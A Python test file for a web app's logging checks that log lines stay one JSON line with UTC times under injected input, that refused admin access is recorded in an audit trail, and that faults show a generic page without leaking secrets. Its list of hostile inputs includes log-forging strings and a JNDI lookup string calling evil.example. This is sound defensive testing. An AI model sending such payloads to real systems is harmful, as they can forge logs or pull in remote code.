"""What the logs say of an attack, and what a visitor sees of a fault."""

import json
import logging
from datetime import datetime, timedelta

import pytest

from s11.storage.tables.trail import TrailRow
from s11.web.watching import JsonLines
from tests.attacks.places import held
from tests.browser import Browser, nobody_yet

INJECTED = [
    'x"\n{"level": "error"}',
    "\x1b[31mred",
    "%s%n${jndi:ldap://evil.example}",
    "\u2028line",
    "a\r\nb",
]


def said(caplog):
    return [JsonLines().format(line) for line in caplog.records]


@pytest.mark.parametrize("typed", INJECTED)
def test_every_line_is_json_with_a_time_in_utc(app, people, caplog, typed):
    manager = Browser(app, people["manager"]).client
    with caplog.at_level(logging.INFO):
        manager.get(
            "/audits/testshire-now",
            query_string={"name": typed},
            headers={"User-Agent": typed.replace("\n", "").replace("\r", "")},
        )
        manager.post("/audits/testshire-now/plan/add", data={"text": typed})

    lines = said(caplog)
    assert lines
    for line in lines:
        told = json.loads(line)
        assert "\n" not in line
        assert datetime.fromisoformat(told["at"]).utcoffset() == timedelta(0)
        assert typed not in str(told)


def test_who_tries_what_they_may_not_is_in_the_trail(app, people, session):
    lead = Browser(app, people["lead"]).client

    lead.get("/admin/people")

    entry = session.query(TrailRow).order_by(TrailRow.id.desc()).first()
    assert (entry.what, entry.who) == ("access.refused", people["lead"].id)
    assert "admin.people" in entry.details


def test_the_administrator_sees_who_was_refused_what(browser):
    browser("lead").client.get("/admin/people")
    nobody_yet()

    page = browser("admin").get("/admin/trail?what=access.refused")

    assert "Access refused" in page.text
    assert "route: admin.people" in page.text


def test_a_fault_is_logged_by_place_and_shown_as_sorry(app, people, session, caplog):
    def fails(**_):
        raise ValueError("what somebody typed: secret")

    fails.may = app.view_functions["council.add"].may
    app.view_functions["council.add"] = fails
    before = held(session)

    page = Browser(app, people["manager"]).get("/audits/testshire-now/plan/add")

    assert (page.status, page.heading) == (500, "Sorry, something went wrong")
    assert "ValueError" not in page.html
    assert "Traceback" not in page.html
    assert "secret" not in page.html
    lines = [line for line in said(caplog) if "ValueError" in line]
    assert len(lines) == 1
    assert "test_logs.py" in lines[0]
    assert "secret" not in lines[0]
    assert held(session) == before
